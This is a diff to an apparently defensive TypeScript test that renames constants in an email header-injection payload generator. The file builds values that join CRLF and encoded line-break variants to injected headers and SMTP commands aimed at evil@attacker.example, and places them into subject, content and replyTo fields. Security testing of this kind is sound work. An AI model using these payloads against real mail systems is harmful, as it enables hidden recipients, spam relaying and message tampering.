@@ -19,7 +19,7 @@ const HEADERS = [
   ...['reply-to', 'subject', 'to'],
 ];
 
-const LINE_ENDS = [
+const ENDS = [
   ...[
     '\r\n',
     '\n',
@@ -38,14 +38,14 @@ const LINE_ENDS = [
   ],
   ...['\r\n ', '\n\t', '=?utf-8?B?DQo=?=', '=?utf-8?Q?=0D=0A?=', '\u202e', '\ufeff', '嘊嘍', ',', ';', '>', '"'],
 ];
-const INJECTED_LINES = [
+const LINES = [
   ...['Bcc: evil@attacker.example', 'Cc: evil@attacker.example', 'To: evil@attacker.example', 'evil@attacker.example'],
   ...['Subject: 別の件名', 'Content-Type: text/html', 'RCPT TO:<evil@attacker.example>', '.', 'X-Injected: 1'],
   '.\r\nMAIL FROM:<evil@attacker.example>',
 ];
 const FIELDS = ['subject', 'content', 'replyTo'] as const;
 
-const PAYLOADS = LINE_ENDS.flatMap((end) => INJECTED_LINES.map((line) => `${end}${line}`)).flatMap((smuggled, index) =>
+const PAYLOADS = ENDS.flatMap((end) => LINES.map((line) => `${end}${line}`)).flatMap((smuggled, index) =>
   [FIELDS[index % 3], FIELDS[(index + 1) % 3]].map((field) => ({ field: field ?? 'subject', smuggled })),
 );
 
